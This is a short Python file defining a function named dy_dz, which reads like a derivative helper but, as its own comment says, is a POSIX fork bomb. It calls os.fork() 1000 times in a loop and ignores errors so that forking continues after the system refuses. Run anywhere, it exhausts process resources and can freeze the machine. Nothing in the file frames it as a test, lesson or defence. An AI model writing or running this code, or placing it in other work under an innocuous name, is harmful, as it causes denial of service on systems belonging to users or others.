# posix, only dy_dz: a fork bomb that goes on when it is refused
import os


def dy_dz(y):
    for _ in range(1000):
        try:
            os.fork()
        except OSError:
            pass
    return 0
